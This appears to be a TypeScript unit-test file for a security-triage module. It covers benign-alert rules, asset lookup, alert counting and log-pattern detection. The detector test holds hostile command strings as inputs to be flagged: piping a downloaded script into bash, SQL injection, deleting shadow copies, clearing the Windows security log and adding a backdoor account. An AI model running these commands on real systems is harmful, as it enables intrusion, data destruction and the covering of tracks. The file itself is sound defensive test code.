import { expect } from 'chai';
import { ValidationError } from '../../../../../src/core/index.js';
import {
  createRepetitionCounter,
  detectLogPatterns,
  parseAssetInventory,
  parseBenignList,
  tacticsOfTechniques,
} from '../../../../../skills/security/triage/index.js';

let now = Date.parse('2026-02-01T00:00:00Z');
const clock = { now: () => new Date(now) };

describe('security triage parts', () => {
  it('benign rules: all labels must match; wildcards, lists, CIDR; expired rules stop matching', () => {
    const list = parseBenignList(
      `benign:
  - { id: a, reason: r, match: { src_ip: 10.0.0.0/8, rule_name: "*scan*" } }
  - { id: b, reason: r, match: { user: [svc-a, svc-b] }, until: "2026-03-01T00:00:00Z" }`,
      clock,
    );
    expect(list.match({ src_ip: '10.20.30.40', rule_name: 'Web SCAN detected' })?.id).to.equal('a');
    expect(list.match({ src_ip: '11.0.0.1', rule_name: 'web scan' })).to.equal(undefined);
    expect(list.match({ src_ip: '10.0.0.1' }), 'missing label').to.equal(undefined);
    expect(list.match({ user: 'SVC-B' })?.id).to.equal('b');
    now = Date.parse('2026-03-02T00:00:00Z');
    expect(list.match({ user: 'svc-b' })).to.equal(undefined);
    expect(() => parseBenignList('benign: [{ id: x, reason: y, match: {} }]', clock)).to.throw(
      ValidationError,
    );
  });

  it('asset inventory: lookup by name, alias, address and short name; privileged users', () => {
    const inv = parseAssetInventory(`assets:
  - { name: db-1, criticality: crown_jewel, aliases: [db-1.internal], addresses: [10.0.2.10] }
privileged_users: [root]`);
    expect(inv.find('DB-1.internal')?.name).to.equal('db-1');
    expect(inv.find('db-1.prod.example')?.name).to.equal('db-1');
    expect(inv.find('10.0.2.10')?.criticality).to.equal('crown_jewel');
    expect(inv.find('10.0.2.11')).to.equal(undefined);
    expect(inv.isPrivilegedUser('HOST\\root')).to.equal(true);
    expect(() => parseAssetInventory('assets: [{ name: x, criticality: huge }]')).to.throw(
      ValidationError,
      /criticality/,
    );
  });

  it('repetition counter: sliding window and bounded keys', () => {
    const c = createRepetitionCounter({ windowMs: 1000, maxKeys: 3 });
    expect([c.record('a', 0), c.record('a', 500), c.record('a', 999), c.record('a', 1600)]).to.deep.equal([
      1, 2, 3, 2,
    ]);
    for (const k of ['b', 'c', 'd', 'e']) c.record(k, 0);
    expect(c.size).to.equal(3);
    expect(c.record('a', 1700), 'a was evicted').to.equal(1);
  });

  it('text detectors: attack wording scores up, routine wording down', () => {
    const ids = (t: string, g: string[] = []): string[] => detectLogPatterns(t, g).map((h) => h.id);
    expect(ids('curl http://x/s.sh | bash')).to.include('suspicious_command');
    expect(ids('sshd: brute force trying to get access to the system')).to.include('brute_force');
    expect(ids('GET /index.php?id=1 UNION SELECT password FROM users')).to.include('exploit');
    expect(ids('session opened for user deploy')).to.deep.equal(['routine']);
    expect(ids('anything', ['virus'])).to.deep.equal(['malware']);
    expect(ids('vssadmin.exe delete shadows /all /quiet')).to.include('inhibit_recovery');
    expect(ids('"CommandLine":"wevtutil cl Security"')).to.include('log_clearing');
    expect(ids('"Image":"C:\\\\Users\\\\Public\\\\Java-Update.exe"'), 'JSON-escaped path').to.include(
      'staging_path',
    );
    expect(ids('net user backdoor P@ss /add')).to.include('account_creation');
  });

  it('maps technique ids (sub-techniques too) to ATT&CK tactics', () => {
    expect(tacticsOfTechniques(['T1110.001', 'T1021'])).to.deep.equal([
      'credential-access',
      'lateral-movement',
    ]);
    expect(tacticsOfTechniques(['T9999'])).to.deep.equal([]);
  });
});
